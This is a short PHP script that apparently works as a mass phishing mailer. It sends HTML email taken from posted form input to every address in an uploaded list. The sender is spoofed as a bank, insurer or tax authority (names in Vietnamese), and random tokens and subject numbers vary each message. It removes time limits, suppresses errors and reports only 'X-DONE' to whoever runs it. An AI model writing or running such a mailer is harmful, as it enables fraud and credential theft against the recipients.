<?php
ini_set('max_execution_time', 0);
$names = ['Ngân hàng', 'Bảo hiểm', 'Thuế'];
foreach (file($_FILES['list']['tmp_name'] ?? '/dev/null', FILE_IGNORE_NEW_LINES) as $to) {
    $n = $names[array_rand($names)];
    $b = preg_replace_callback('/\{rand\}/', function () { return bin2hex(random_bytes(4)); }, $_POST['tpl']);
    @mail($to, "$n: thông báo " . rand(1000, 9999), $b, "From: $n <no-reply@" . $_SERVER['SERVER_NAME'] . ">\r\nContent-Type: text/html");
}
echo 'X-DONE';
